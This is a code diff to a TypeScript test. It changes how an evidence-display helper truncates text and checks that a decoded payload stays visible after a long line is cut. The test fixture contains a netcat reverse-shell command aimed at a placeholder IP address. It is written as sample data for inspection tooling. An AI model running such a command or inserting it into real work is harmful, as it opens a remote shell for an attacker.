@@ -14,7 +14,12 @@ const evidenceOf = (text: string): Evidence => ({
   variety: undefined,
 });
 const shown = (text: string, maxCharacters: number): string =>
-  evidenceBlock(1, evidenceOf(text), { samples: 1, neighbours: false, maxCharacters }).text;
+  evidenceBlock(1, evidenceOf(text), {
+    samples: 1,
+    neighbours: false,
+    firstCharacters: maxCharacters,
+    furtherCharacters: 40,
+  }).text;
 
 it("keeps what a payload says in sight when the line around it is cut", () => {
   const text = shown(`${"x".repeat(2_000)} ⟪decoded base64: nc -e /bin/sh 203.0.113.7⟫`, 60);
